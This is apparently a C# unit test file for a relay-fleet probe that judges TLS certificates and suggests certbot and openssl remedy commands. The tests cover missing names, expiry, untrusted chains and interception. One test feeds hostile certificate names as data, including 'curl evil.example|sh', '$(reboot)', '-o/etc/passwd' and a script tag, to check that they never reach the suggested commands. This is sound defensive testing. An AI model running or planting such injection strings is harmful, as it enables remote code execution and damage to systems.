using OpenZro.Probes.Findings;
using OpenZro.Probes.Probing;

namespace OpenZro.Probes.Tests.Findings.Rules;

public class CertificateTests
{
    [Fact]
    public void A_certificate_without_the_cluster_name_is_told_with_the_very_command()
    {
        var finding = WithoutClusterName(1).Only(FindingCodes.CertNameMissing);

        finding.Severity.ShouldBe(Severity.Error);
        finding.Subject.ShouldBe(new FindingSubject { Region = Scene.Region, Relay = "br", Member = Scene.Host("br", 1), Name = Scene.Cluster("br") });
        finding.Remedy.ShouldContain(
            "certbot certonly --expand -d relay-br-1.example.com -d relay-cluster-br.example.com --deploy-hook 'systemctl restart openzro-relay'");
    }

    [Fact]
    public void The_same_name_missing_over_IPv4_and_IPv6_is_one_finding()
    {
        var scene = WithoutClusterName(1).WithRelay("br", r => r with
        {
            Members = [r.Members[0] with { Addresses = [.. r.Members[0].Addresses, System.Net.IPAddress.Parse("2001:db8::1")] }, r.Members[1]],
        });
        var finding = scene
            .Saw("br", r => r with
            {
                Endpoints =
                [
                    .. r.Endpoints,
                    .. r.Endpoints.Where(o => o.Endpoint.Member == Scene.Host("br", 1))
                        .Select(o => o with { Endpoint = o.Endpoint with { Address = System.Net.IPAddress.Parse("2001:db8::1") } }),
                ],
            })
            .Answers("br", Scene.Answer(Scene.Cluster("br"), Scene.Resolver, "198.51.0.1", "198.51.0.2", "2001:db8::1"))
            .Only(FindingCodes.CertNameMissing);

        finding.Evidence.Count.ShouldBe(2);
        finding.Subject.Address.ShouldBeNull();
    }

    [Fact]
    public void Two_members_with_certificates_of_their_own_that_lack_the_name_are_two_findings() =>
        WithoutClusterName(1, 2).Judge().AllFindings.Select(f => f.Subject.Member).ShouldBe([Scene.Host("br", 1), Scene.Host("br", 2)]);

    [Fact]
    public void One_certificate_on_all_members_is_one_finding() =>
        Scene.OfOne().Certificates("br", c => c with { Names = [Scene.Host("br", 1), Scene.Host("br", 2)], Sha256 = "shared" })
            .Only(FindingCodes.CertNameMissing).Subject.Member.ShouldBeNull();

    [Fact]
    public void Names_are_judged_per_SNI_since_an_acme_client_has_one_certificate_each() =>
        Scene.OfOne().Endpoints("br", o => o with
        {
            Certificate = o.Certificate! with { Names = [o.Endpoint.ServerName], Sha256 = o.Endpoint + "" },
        }).IsHealthy();

    [Fact]
    public void An_acme_client_within_the_relay_is_told_its_own_setting() =>
        Scene.OfOne()
            .Endpoints("br", o => o with { Certificate = o.Certificate! with { Names = [o.Endpoint.ServerName], Sha256 = o.Endpoint + "" } })
            .Certificates("br", c => c with { Names = ["other.example.com"] }, o => o.Endpoint.ServerName == Scene.Cluster("br") && o.Endpoint.Member == Scene.Host("br", 1))
            .Find(FindingCodes.CertNameMissing)
            .Remedy.ShouldContain("OZ_LETSENCRYPT_DOMAINS=relay-br-1.example.com,relay-cluster-br.example.com");

    [Fact]
    public void A_wildcard_carries_both_names() =>
        Scene.OfOne().Certificates("br", c => c with { Names = ["*.example.com"], Sha256 = "wildcard" }).IsHealthy();

    [Fact]
    public void Another_authority_gets_a_request_to_sign() =>
        WithoutClusterName(1).Certificates("br", c => c with { Issuer = "CN=DigiCert TLS RSA" }).Find(FindingCodes.CertNameMissing)
            .Remedy.ShouldContain("-addext subjectAltName=DNS:relay-br-1.example.com,DNS:relay-cluster-br.example.com");

    [Fact]
    public void An_expired_certificate_is_expired_and_nothing_else() =>
        Scene.OfOne().Certificates("br", c => c with
        {
            NotAfter = Scene.Now.AddDays(-1), PathNotAfter = null, Trust = ChainTrust.Untrusted, Problems = ["self-signed"], Weaknesses = ["SHA-1"], Sha256 = "one",
        }).Only(FindingCodes.CertExpired).Remedy.ShouldContain("certbot renew --cert-name relay-br-1.example.com");

    [Theory]
    [InlineData("a.example.com;curl evil.example|sh")]
    [InlineData("$(reboot).example.com")]
    [InlineData("-o/etc/passwd")]
    [InlineData("'\"><script>")]
    public void What_a_server_wrote_into_its_certificate_reaches_no_command_that_people_copy(string name)
    {
        var scene = Scene.OfOne().Certificates("br", c => c with { Names = [name], NotAfter = Scene.Now.AddDays(-1), PathNotAfter = null, Trust = ChainTrust.Untrusted, Issuer = "CN=House CA" });

        foreach (var finding in scene.Judge().AllFindings)
            finding.Remedy.ShouldNotContain(name);
    }

    [Fact]
    public void A_chain_that_expired_above_the_leaf_is_expired() =>
        Scene.OfOne().Certificates("br", c => c with { Trust = ChainTrust.Expired, PathNotAfter = null, Sha256 = "one" }).Only(FindingCodes.CertExpired)
            .Message.ShouldContain("over one that has expired");

    [Fact]
    public void An_expired_extra_that_the_path_avoids_is_no_finding() =>
        Scene.OfOne().Certificates("br", c => c with { ChainCount = 4, Trust = ChainTrust.Trusted }).IsHealthy();

    [Fact]
    public void A_certificate_ahead_of_time_points_at_the_clock() =>
        Scene.OfOne().Certificates("br", c => c with { NotBefore = Scene.Now.AddDays(2), Trust = ChainTrust.NotYetValid, PathNotAfter = null, Sha256 = "one" })
            .Only(FindingCodes.CertNotYetValid).Remedy.ShouldContain("timedatectl");

    [Fact]
    public void A_missing_intermediate_is_named() =>
        Scene.OfOne().Certificates("br", c => c with { Trust = ChainTrust.Incomplete, MissingIssuer = "CN=E7", PathNotAfter = null, ChainCount = 1, Sha256 = "one" })
            .Only(FindingCodes.CertChainIncomplete).ShouldSatisfyAllConditions(
                f => f.Message.ShouldContain("CN=E7"),
                f => f.Remedy.ShouldContain("fullchain.pem"));

    [Fact]
    public void A_private_authority_is_untrusted() =>
        Scene.OfOne().Certificates("br", c => c with { Trust = ChainTrust.Untrusted, Issuer = "CN=House CA", PathNotAfter = null, Sha256 = "one" })
            .Only(FindingCodes.CertUntrusted).Remedy.ShouldContain("--ca-file");

    [Fact]
    public void A_chain_that_breaks_a_rule_is_not_mended_by_more_trust()
    {
        var finding = Scene.OfOne()
            .Certificates("br", c => c with { Trust = ChainTrust.Untrusted, BreaksRule = true, Problems = ["signed with SHA-1"], PathNotAfter = null, Sha256 = "one" })
            .Only(FindingCodes.CertUntrusted);

        finding.Message.ShouldContain("peers refuse: signed with SHA-1");
        finding.Remedy.ShouldNotContain("--ca-file");
    }

    [Fact]
    public void A_private_authority_on_every_relay_is_untrusted_and_not_intercepted()
    {
        var scene = Scene.Of(("br", 30), ("us", 60));
        foreach (var relay in new[] { "br", "us" })
        {
            scene = scene.Certificates(relay, c => c with { Trust = ChainTrust.Untrusted, Issuer = "CN=House CA", PathNotAfter = null });
        }

        scene.Lacks(FindingCodes.TlsIntercepted);
        scene.Judge().AllFindings.ShouldAllBe(f => f.Code == FindingCodes.CertUntrusted);
    }

    [Theory]
    [InlineData(21, false)]
    [InlineData(20.9, true)]
    [InlineData(0.5, true)]
    public void A_certificate_expires_soon_below_the_threshold(double daysLeft, bool isFound)
    {
        var scene = Scene.OfOne().Certificates("br", c => c with { NotAfter = Scene.Now.AddDays(daysLeft), NotBefore = Scene.Now.AddDays(daysLeft - 90), PathNotAfter = Scene.Now.AddDays(daysLeft), Sha256 = "one" });
        if (isFound)
        {
            scene.Only(FindingCodes.CertExpiring).Message.ShouldContain($"{(int)daysLeft} day");
        }
        else
        {
            scene.IsHealthy();
        }
    }

    [Fact]
    public void What_ends_first_on_the_path_counts() =>
        Scene.OfOne().Certificates("br", c => c with { PathNotAfter = Scene.Now.AddDays(10), Sha256 = "one" }).Only(FindingCodes.CertExpiring)
            .Message.ShouldContain("chain ends in 10 days");

    [Fact]
    public void A_short_lived_certificate_does_not_warn_before_its_renewal_is_due() =>
        Scene.OfOne().Certificates("br", c => c with { NotBefore = Scene.Now.AddDays(-3), NotAfter = Scene.Now.AddDays(3), PathNotAfter = Scene.Now.AddDays(3) }).IsHealthy();

    [Fact]
    public void A_weak_key_is_a_warning() =>
        Scene.OfOne().Certificates("br", c => c with { KeyType = "RSA 1024", Weaknesses = ["RSA key of 1,024 bits"], Sha256 = "one" })
            .Only(FindingCodes.CertWeak).Severity.ShouldBe(Severity.Warning);

    [Fact]
    public void A_weak_chain_that_clients_refuse_is_untrusted_only() =>
        Scene.OfOne().Certificates("br", c => c with { Weaknesses = ["SHA-1 signature"], Trust = ChainTrust.Untrusted, Sha256 = "one" }).Only(FindingCodes.CertUntrusted);

    [Fact]
    public void Members_with_certificates_of_two_authorities_differ() =>
        Scene.OfOne().Certificates("br", c => c with { Issuer = "CN=GTS WE1, O=Google Trust Services, C=US" }, o => o.Endpoint.Member == Scene.Host("br", 2))
            .Only(FindingCodes.CertMembersDiffer).Message.ShouldContain("authority");

    [Fact]
    public void Members_with_different_shared_names_differ() =>
        Scene.OfOne().Certificates("br", c => c with { Names = [.. c.Names, "relay-old.example.com"] }, o => o.Endpoint.Member == Scene.Host("br", 2))
            .Only(FindingCodes.CertMembersDiffer).Remedy.ShouldContain("-d relay-old.example.com");

    [Fact]
    public void What_the_other_member_wrote_into_its_certificate_reaches_no_command_either() =>
        Scene.OfOne().Certificates("br", c => c with { Names = [.. c.Names, "$(reboot).example.com"] }, o => o.Endpoint.Member == Scene.Host("br", 2))
            .Only(FindingCodes.CertMembersDiffer).Remedy.ShouldNotContain("reboot");

    [Fact]
    public void Members_renewed_on_different_days_by_another_intermediate_of_the_same_authority_do_not_differ() =>
        Scene.OfOne().Certificates(
            "br",
            c => c with { Issuer = "CN=E8, O=Let's Encrypt, C=US", NotBefore = Scene.Now.AddDays(-2), NotAfter = Scene.Now.AddDays(88), PathNotAfter = Scene.Now.AddDays(88) },
            o => o.Endpoint.Member == Scene.Host("br", 2)).IsHealthy();

    [Theory]
    [InlineData(4_299, true, false)]
    [InlineData(4_300, true, true)]
    [InlineData(13_999, false, false)]
    [InlineData(14_000, false, true)]
    public void A_chain_is_large_by_what_its_transport_carries(int bytes, bool offersQuic, bool isFound)
    {
        var scene = Scene.OfOne()
            .WithRelay("br", r => r with { Transports = offersQuic ? [Probes.Fleet.Transport.Ws, Probes.Fleet.Transport.Quic] : [Probes.Fleet.Transport.Ws] })
            .Certificates("br", c => c with { ChainBytes = bytes, Sha256 = "one" });
        if (isFound)
        {
            scene.Only(FindingCodes.CertChainLarge).Message.ShouldContain("one more round trip");
        }
        else
        {
            scene.IsHealthy();
        }
    }

    [Fact]
    public void An_inspection_product_whose_chain_does_not_validate_is_an_error_and_explains_everything_else()
    {
        var finding = Scene.OfOne().Certificates("br", c => c with
        {
            Issuer = "CN=mitmproxy, O=mitmproxy", Trust = ChainTrust.Untrusted, Names = ["other"], NotAfter = Scene.Now.AddDays(1), Weaknesses = ["x"],
        }).Only(FindingCodes.TlsIntercepted);

        finding.Severity.ShouldBe(Severity.Error);
        finding.Message.ShouldContain("mitmproxy");
        finding.Remedy.ShouldContain("per process");
    }

    [Fact]
    public void An_inspection_product_that_this_machine_trusts_is_a_warning() =>
        Scene.OfOne().Certificates("br", c => c with { Issuer = "CN=Zscaler Intermediate Root CA" }).Only(FindingCodes.TlsIntercepted).Severity.ShouldBe(Severity.Warning);

    [Fact]
    public void An_issuer_that_the_fleet_does_not_expect_is_intercepted() =>
        Scene.OfOne().WithRelay("br", r => r with { Issuers = ["DigiCert"] }).Only(FindingCodes.TlsIntercepted).Message.ShouldContain("DigiCert is expected");

    [Fact]
    public void An_expected_issuer_is_compared_without_case() => Scene.OfOne().WithRelay("br", r => r with { Issuers = ["let's encrypt"] }).IsHealthy();

    [Fact]
    public void One_unknown_authority_for_every_relay_behind_near_connections_is_intercepted()
    {
        var scene = Scene.Of(("br", 30), ("us", 300));
        foreach (var relay in new[] { "br", "us" })
        {
            scene = scene.Endpoints(relay, o => o with
            {
                Connect = Scene.Ms(2),
                Certificate = o.Certificate! with { Issuer = "CN=Corp Gateway", Trust = ChainTrust.Untrusted },
            });
        }

        scene.Judge().Relays.ShouldAllBe(r => r.Findings.Single().Code == FindingCodes.TlsIntercepted && r.Findings.Single().Severity == Severity.Error);
    }

    private static Scene WithoutClusterName(params int[] members) => Scene.OfOne().Certificates(
        "br",
        c => c with { Names = [c.Names[0]] },
        o => members.Any(m => o.Endpoint.Member == Scene.Host("br", m)));
}
